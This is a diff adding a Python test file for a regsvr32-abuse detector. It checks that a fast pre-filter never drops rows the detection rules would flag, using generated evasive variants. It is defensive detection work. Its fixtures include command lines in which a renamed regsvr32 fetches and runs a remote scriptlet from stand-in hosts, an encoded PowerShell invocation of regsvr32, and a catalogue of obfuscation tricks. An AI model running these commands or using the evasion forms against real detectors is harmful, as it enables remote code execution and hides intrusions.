@@ -1,0 +1,281 @@
+"""The cheap test is sound (reliability item 20): every row any rule flags passes it.
+
+``fields.mentions_regsvr32`` decides, before anything is read, that a row cannot concern
+regsvr32; the byte-level path (regsvr32_fastpath) copies the rows it does not mark without
+asking the detector. A row a rule would flag that either of them lets by passes with score 0,
+silently. So: for every rule's positive examples, in every EDR shape, and in generated variants
+of them (column order permutations, decoy columns before the command line, multivalue fields,
+placeholder event-type fields, paths as Windows logs write them, command lines written the ways
+regsvr32 and PowerShell still read them: any case, any switch prefix, tabs, quotes anywhere, the
+program named or not, a renamed copy, scriptlets over UNC, WebDAV or any URL scheme, encoded
+PowerShell with any switch prefix), the rules are run with the cheap test switched off, and
+every row they flag must pass the cheap test and be marked by the byte-level path.
+"""
+import contextlib
+import random
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from regsvr32_detector import RULES, Detector, OUTPUT_FIELDS, fields
+import regsvr32_fastpath
+from support import edr_shapes
+from test_leanio import splunkd_body
+from test_properties import PROFILE
+
+
+MENTIONS = fields.mentions_regsvr32
+DETECTOR = Detector()
+
+
+@contextlib.contextmanager
+def no_cheap_test():
+    fields.mentions_regsvr32 = lambda *args, **kwargs: True
+    try:
+        yield
+    finally:
+        fields.mentions_regsvr32 = MENTIONS
+
+
+def flagged(record):
+    """The rules the detector would fire on RECORD if the cheap test let every row through."""
+    with no_cheap_test():
+        return Detector().evaluate(record).rules
+
+
+# --- the examples ------------------------------------------------------------------------------
+def _examples():
+    out = []
+    for rule in RULES:
+        for i, record in enumerate(rule.positives):
+            out.append(("%s+%d" % (rule.id, i), dict(record)))
+            for shape in edr_shapes.SHAPES:
+                converted = edr_shapes.convert(shape, record)
+                if converted:
+                    out.append(("%s+%d %s" % (rule.id, i, shape), converted))
+    return out
+
+
+EXAMPLES = _examples()
+COMMAND_LINES = frozenset(src for src, (name, _) in fields.SOURCES.items() if name == "command_line") | frozenset(
+    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
+    for src, (name, _) in table.items() if name == "command_line")
+IMAGES = frozenset(src for src, (name, _) in fields.SOURCES.items() if name in ("image", "source_image")) | frozenset(
+    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
+    for src, (name, _) in table.items() if name in ("image", "source_image"))
+IDENTITY = frozenset(src for src, (name, _) in fields.SOURCES.items()
+                     if name in ("original_file_name", "description", "process_name")) | frozenset(
+    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
+    for src, (name, _) in table.items() if name in ("original_file_name", "description", "process_name"))
+PATHS = frozenset(src for src, (name, _) in fields.SOURCES.items() if name in fields.PATH_FIELDS) | frozenset(
+    src for shape in fields.EDR_SHAPES for table in shape.sources.values()
+    for src, (name, _) in table.items() if name in fields.PATH_FIELDS)
+SELECTORS = tuple(sorted(set(f for shape in fields.EDR_SHAPES for f in shape.type_fields)))
+
+
+def test_every_positive_example_is_flagged_and_passes_the_cheap_test():
+    assert len(EXAMPLES) > 150
+    for name, record in EXAMPLES:
+        rules = flagged(record)
+        if name.count(" ") == 0:
+            assert name.split("+")[0] in rules, name         # the rule's own example
+        if rules:
+            assert MENTIONS(record), (name, rules, record)
+
+
+# --- the forms ---------------------------------------------------------------------------------
+DECOY_NAMES = ["note", "_raw", "cmd", "CommandLine_old", "process_exec", "Processes.process_exec",
+               "ParentCommandLine", "process.args", "message", "dest", "signature", "CommandLine "]
+DECOY_VALUES = ["", "-", "notepad.exe C:\\x\\todo.txt", "C:\\Windows\\System32\\svchost.exe -k netsvcs",
+                '"C:\\Program Files\\App\\app.exe" --flag', "a,b", "ok"]
+LOGGED = [("C:\\Windows\\", "\\??\\C:\\Windows\\"), ("C:\\Windows\\", "\\\\?\\C:\\Windows\\"),
+          ("C:\\Windows\\", "%SystemRoot%\\"), ("C:\\Windows\\", "%windir%\\"),
+          ("C:\\Windows\\", "\\SystemRoot\\"), ("C:\\Windows\\System32\\", "C:\\Windows\\Sysnative\\"),
+          ("C:\\", "\\??\\C:\\"), ("C:\\", "\\\\?\\C:\\")]
+PREFIXES = ["/", "-", "\u2013", "\u2014", "\u2015"]
+REMOTE = [("http://", "\\\\"), ("http://", "//"), ("http://", "ftp://"), ("http://", "file://"),
+          ("http://", "\\\\?\\UNC\\"), ("http://", "\\??\\UNC\\"), ("https://", "\\\\"),
+          ("http://", "HTTP://"), ("http://", '"http://'), ("http://", "\\/\\/")]
+
+
+def _recase(rnd, text):
+    pick = rnd.random()
+    if pick < 0.3:
+        return text.upper()
+    if pick < 0.6:
+        return text.lower()
+    return "".join(c.upper() if rnd.random() < 0.5 else c.lower() for c in text)
+
+
+def _quotes(rnd, text):
+    # "" anywhere outside a quoted stretch is read as nothing (split_argv)
+    out = list(text)
+    for _ in range(rnd.randint(1, 4)):
+        i = rnd.randrange(len(out) + 1)
+        if out[:i].count('"') % 2 == 0:
+            out.insert(i, '""')
+    return "".join(out)
+
+
+def _switches(rnd, text):
+    prefix = rnd.choice(PREFIXES)
+    return " ".join(prefix + t[1:] if t[:1] in ("/", "-") and len(t) > 1 else t for t in text.split(" "))
+
+
+def _blanks(rnd, text):
+    return text.replace(" ", rnd.choice(["\t", "  ", " \t "]))
+
+
+def _program(rnd, text):
+    words = text.split(" ", 1)
+    if "regsvr32" not in words[0].lower() or len(words) < 2:
+        return text
+    return rnd.choice(["", "regsvr32 ", "regsvr32.exe ", '"C:\\Windows\\System32\\regsvr32.exe" ',
+                       "C:\\Windows\\SysWOW64\\regsvr32.exe ", "%windir%\\system32\\regsvr32.exe ",
+                       "\\??\\C:\\Windows\\System32\\regsvr32.exe "]) + words[1]
+
+
+def _remote(rnd, text):
+    old, new = rnd.choice(REMOTE)
+    return text.replace(old, new) if old in text else text
+
+
+def _encoded(rnd, text):
+    for switch in ("-encodedCommand", "-enc", "-ec", "-e "):
+        if switch in text:
+            return text.replace(switch, rnd.choice(PREFIXES) + rnd.choice(["e", "E", "enc", "EC", "EncodedCommand"])
+                                + (" " if switch.endswith(" ") else ""), 1)
+    return text
+
+
+LINE_FORMS = [_recase, _quotes, _switches, _blanks, _program, _remote, _encoded]
+
+
+def _renamed(rnd, record):
+    # a renamed copy, as a log without OriginalFileName (4688, CIM, CrowdStrike) has it
+    out = dict((k, v) for k, v in record.items() if k not in IDENTITY)
+    for k in out:
+        if k in IMAGES and isinstance(out[k], str) and "regsvr32" in out[k].lower():
+            out[k] = rnd.choice(["C:\\Users\\Public\\svc.exe", "C:\\ProgramData\\jabber.exe", "svc.exe"])
+    return out
+
+
+def _logged_paths(rnd, record):
+    out = dict(record)
+    for k, v in out.items():
+        if k in PATHS and isinstance(v, str):
+            old, new = rnd.choice(LOGGED)
+            if v.startswith(old):
+                out[k] = new + v[len(old):]
+    return out
+
+
+def _multivalue(rnd, record):
+    out = dict(record)
+    keys = [k for k, v in out.items() if isinstance(v, str) and v and k not in SELECTORS
+            and k not in ("EventCode", "event.code")]
+    for k in rnd.sample(keys, min(len(keys), rnd.randint(1, 2))):
+        decoy = rnd.choice(DECOY_VALUES[2:])
+        out[k] = [decoy, out[k]] if rnd.random() < 0.7 else [out[k], decoy, decoy + " 2"]
+    return out
+
+
+def _placeholders(rnd, record):
+    out = dict(record)
+    for k in rnd.sample(SELECTORS, rnd.randint(1, 3)):
+        out.setdefault(k, rnd.choice(["", "-", "N/A", "null", "unknown"]))
+    return out
+
+
+def _decoys_and_order(rnd, record):
+    items = list(record.items())
+    rnd.shuffle(items)
+    at = next((i for i, (k, _) in enumerate(items) if k in COMMAND_LINES), 0)
+    for _ in range(rnd.randint(0, 4)):
+        name = rnd.choice(DECOY_NAMES)
+        if name not in record:
+            items.insert(at, (name, rnd.choice(DECOY_VALUES)))
+    return dict(items)
+
+
+RECORD_FORMS = [_renamed, _logged_paths, _multivalue, _placeholders]
+
+
+def variant(seed, record):
+    """One generated variant of RECORD: some command-line forms, some record forms, then decoy
+    columns and a column order."""
+    rnd = random.Random(seed)
+    out = dict(record)
+    for k, v in list(out.items()):
+        if k in COMMAND_LINES and isinstance(v, str) and v:
+            for form in rnd.sample(LINE_FORMS, rnd.randint(0, len(LINE_FORMS))):
+                v = form(rnd, v)
+            out[k] = v
+    for form in rnd.sample(RECORD_FORMS, rnd.randint(0, len(RECORD_FORMS))):
+        out = form(rnd, out)
+    return _decoys_and_order(rnd, out)
+
+
+def _check(record):
+    rules = flagged(record)
+    if rules:
+        assert MENTIONS(record), (rules, record)
+        # the byte-level path marks it too, among rows that cannot concern regsvr32
+        filler = [dict.fromkeys(record, "x")] * 12
+        body = splunkd_body(filler + [record] + filler)
+        chunk, why = regsvr32_fastpath.plan(body, OUTPUT_FIELDS)
+        if chunk is not None:
+            assert 12 in chunk.marked, (rules, record)
+    return bool(rules)
+
+
+@PROFILE
+@given(example=st.sampled_from(EXAMPLES), seed=st.integers(0, 2 ** 32 - 1))
+def test_every_row_a_rule_flags_passes_the_cheap_test(example, seed):
+    _check(variant(seed, example[1]))
+
+
+@pytest.mark.parametrize("form", LINE_FORMS + RECORD_FORMS + [_decoys_and_order], ids=lambda f: f.__name__)
+def test_each_form_alone_over_every_example(form):
+    # every example, each form alone, a few draws each: many of them are still flagged (a renamed
+    # copy is flagged by fewer rules)
+    still = total = 0
+    for n, (name, record) in enumerate(EXAMPLES):
+        for draw in range(4):
+            rnd = random.Random(n * 7 + draw)
+            if form in LINE_FORMS:
+                out = dict((k, form(rnd, v) if k in COMMAND_LINES and isinstance(v, str) and v else v)
+                           for k, v in record.items())
+            else:
+                out = form(rnd, record)
+            still += _check(out)
+            total += 1
+    assert still > total // 5
+
+
+@pytest.mark.parametrize("record", [
+    # a renamed copy (4688: no OriginalFileName) fetching its scriptlet every way regsvr32 reads
+    {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "CommandLine": line}
+    for line in [
+        "jabber.exe /s /u /i:\\\\10.1.2.3\\share\\a.sct x.dll",
+        "jabber.exe /s /u /i://10.1.2.3/share/a.sct x.dll",
+        "jabber.exe /s /u /i:\\\\files@SSL\\DavWWWRoot\\a.sct x.dll",
+        "jabber.exe /s /u /i:ftp://files.example/a.sct x.dll",
+        'jabber.exe /s /u /i:"http://files.example/a.sct" x.dll',
+        'jabber.exe /s /u /i:""http://files.example/a.sct x.dll',
+        "jabber.exe /s /u /i:h\"\"ttp://files.example/a.sct x.dll",
+        "jabber.exe /s /u /i:\\??\\UNC\\files\\share\\a.sct x.dll",
+        "jabber.exe /s /u /i:\\/\\/files/share/a.sct x.dll",
+        'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct "scr""obj.dll"',
+        'jabber.exe /s /u /i:C:\\Users\\Public\\a.sct sc""robj.dll',
+    ]] + [
+    # regsvr32 in an encoded PowerShell command, any switch prefix PowerShell takes
+    {"EventCode": "1", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+     "CommandLine": "powershell.exe %senc cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==" % prefix}
+    for prefix in PREFIXES] + [
+    {"EventCode": "4698", "TaskContent": "<Command>pwsh</Command><Arguments>-NoP /ec 'cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA=='</Arguments>"},
+])
+def test_the_forms_a_renamed_copy_and_powershell_take(record):
+    assert flagged(record), record
+    assert _check(record)
